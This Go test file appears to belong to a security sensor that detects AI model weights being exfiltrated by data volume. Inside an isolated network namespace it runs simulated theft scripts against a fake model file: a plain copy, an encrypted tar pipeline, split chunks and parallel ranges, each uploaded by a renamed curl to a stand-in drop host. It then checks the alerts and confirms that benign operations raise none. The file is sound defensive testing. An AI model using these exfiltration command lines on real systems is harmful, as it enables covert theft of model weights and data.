package node_test

import (
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"picket/event"
)

// drop is a place outside to which a thief sends, in a network of its own.
type drop struct {
	t        *testing.T
	addr     string
	got      atomic.Int64
	fifth    atomic.Int64 // when a fifth of the model had come, in nanoseconds
	commands chan *exec.Cmd
	ended    chan error
}

const stolen = 256 << 20 // the model

// newDrop makes a network in which 203.0.113.66 takes whatever is sent.
func newDrop(t *testing.T) *drop {
	t.Helper()
	d := &drop{t: t, commands: make(chan *exec.Cmd), ended: make(chan error)}
	ready := make(chan error)
	go func() {
		runtime.LockOSThread() // for good: the thread ends with what it changed
		l, err := ownNetwork()
		if err == nil {
			d.addr = l.Addr().String()
			srv := &http.Server{Handler: d, ReadHeaderTimeout: time.Minute}
			go srv.Serve(l)
			t.Cleanup(func() { _ = srv.Close() })
		}
		if ready <- err; err != nil {
			return
		}
		for cmd := range d.commands {
			out, err := cmd.CombinedOutput()
			if err != nil {
				err = fmt.Errorf("%w: %s", err, out)
			}
			d.ended <- err
		}
	}()
	if err := <-ready; err != nil {
		t.Skip("needs a network of its own: ", err)
	}
	t.Cleanup(func() { close(d.commands) })
	return d
}

func ownNetwork() (net.Listener, error) {
	if err := unix.Unshare(unix.CLONE_NEWNET); err != nil {
		return nil, err
	}
	for _, args := range [][]string{{"link", "set", "lo", "up"}, {"addr", "add", "203.0.113.66/32", "dev", "lo"}} {
		if out, err := exec.Command("ip", args...).CombinedOutput(); err != nil {
			return nil, fmt.Errorf("ip %v: %w: %s", args, err, out)
		}
	}
	return net.Listen("tcp", "203.0.113.66:0")
}

func (d *drop) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if r.Method == http.MethodGet {
		_, _ = io.CopyN(w, zeros{}, 200<<20)
		return
	}
	buf := make([]byte, 1<<20)
	for {
		n, err := r.Body.Read(buf)
		if d.got.Add(int64(n)) >= stolen/5 {
			d.fifth.CompareAndSwap(0, time.Now().UnixNano())
		}
		if err != nil {
			return
		}
	}
}

type zeros struct{}

func (zeros) Read(p []byte) (int, error) { clear(p); return len(p), nil }

// run runs a script below a program named cron, so that it is a lineage of its own.
func (d *drop) run(dir, script string) {
	d.t.Helper()
	cron := filepath.Join(dir, "cron")
	if _, err := os.Stat(cron); err != nil {
		b, err := os.ReadFile("/bin/sh")
		if err == nil {
			err = os.WriteFile(cron, b, 0o755)
		}
		if err != nil {
			d.t.Fatal(err)
		}
	}
	d.got.Store(0)
	d.fifth.Store(0)
	file := filepath.Join(dir, "script")
	write(d.t, file, "set -e\n"+script)
	d.commands <- exec.Command(cron, "-c", "/bin/sh "+file+"; x=$?; exit $x")
	if err := <-d.ended; err != nil {
		d.t.Fatal(err)
	}
}

// A model is taken by tools that a thief has, by way of copies, archives and encryption, over
// real connections. Each theft is told within a minute of a fifth having left.
func TestAModelThatLeavesIsToldByItsVolume(t *testing.T) {
	p := newProgram(t)
	for _, tool := range []string{"curl", "openssl", "ip", "split", "tar", "gzip"} {
		if _, err := exec.LookPath(tool); err != nil {
			t.Skip("needs ", tool, ": the thief uses it")
		}
	}
	model, tmp := filepath.Join(p.dir, "models/m/model.safetensors"), filepath.Join(p.dir, "tmp")
	if err := os.MkdirAll(tmp, 0o755); err != nil {
		t.Fatal(err)
	}
	if out, err := exec.Command("/bin/sh", "-c", fmt.Sprintf("head -c %d /dev/urandom > %s", stolen, model)).CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	d := newDrop(t)
	p.start()
	p.until(30*time.Second, "the model is known", func() bool { b := p.heartbeat(); return b != nil && len(b.Models) > 0 })
	time.Sleep(12 * time.Second) // what is asked of the sensor follows what is known at the next heartbeat
	curl, err := os.ReadFile("/usr/bin/curl")
	if err != nil {
		t.Skip("needs /usr/bin/curl, under a name of each thief's own: ", err)
	}
	named := func(name string) string {
		path := filepath.Join(p.dir, name)
		if err := os.WriteFile(path, curl, 0o755); err != nil {
			t.Fatal(err)
		}
		return path
	}
	by := func(name string) (list []event.Finding) {
		list, _ = p.findings("weights_volume_left") // asked again
		return slices.DeleteFunc(list, func(f event.Finding) bool { return !strings.HasPrefix(f.Summary, name+" (pid") })
	}
	for i, theft := range []struct{ name, script string }{
		{"a copy", `cp %[1]s %[2]s/a; %[4]s -s -T %[2]s/a http://%[3]s/u; rm %[2]s/a`},
		{"packed and encrypted in a pipeline", `tar cf - %[1]s 2>/dev/null | gzip -1 | openssl enc -aes-256-ctr -pass pass:x -pbkdf2 | %[4]s -s -T - http://%[3]s/u`},
		{"parts, each by a process of its own", `split -b 30m %[1]s %[2]s/p.; for f in %[2]s/p.*; do %[4]s -s -T $f http://%[3]s/u; done; rm %[2]s/p.*`},
		{"ranges at the same time", `for i in 0 1 2 3 4; do dd if=%[1]s bs=1M skip=$((i*100)) count=100 2>/dev/null | %[4]s -s -T - http://%[3]s/u & done; wait`},
	} {
		thief := fmt.Sprint("thief", i)
		d.run(p.dir, fmt.Sprintf(theft.script, model, tmp, d.addr, named(thief)))
		if got := d.got.Load(); got < stolen*9/10 {
			t.Fatalf("%s: only %d bytes arrived", theft.name, got)
		}
		p.until(60*time.Second, theft.name+" is told", func() bool { return len(by(thief)) > 0 })
		f := slices.MinFunc(by(thief), func(a, b event.Finding) int { return a.Time.Compare(b.Time) })
		late := f.Time.Sub(time.Unix(0, d.fifth.Load()))
		t.Logf("%s: %s by %v after a fifth had left: %s", theft.name, f.Severity, late, f.Summary)
		if late > time.Minute || !strings.Contains(f.Summary, "model m") || !strings.Contains(f.Summary, "203.0.113.66") {
			t.Errorf("%s: %s", late, f.Summary)
		}
	}
	for _, quiet := range []string{ // each a lineage of its own
		`sha256sum %[1]s; cp %[1]s %[2]s/backup; rm %[2]s/backup`,
		`%[4]s -s -o %[2]s/layer http://%[3]s/; %[4]s -s -T %[2]s/layer http://%[3]s/u; rm %[2]s/layer`,
	} {
		d.run(p.dir, fmt.Sprintf(quiet+"; : %[4]s", model, tmp, d.addr, named("puller")))
	}
	time.Sleep(12 * time.Second) // two looks
	for _, name := range []string{"puller", "sha256sum", "cp"} {
		for _, f := range by(name) {
			t.Errorf("it is no theft: %s", f.Summary)
		}
	}
}
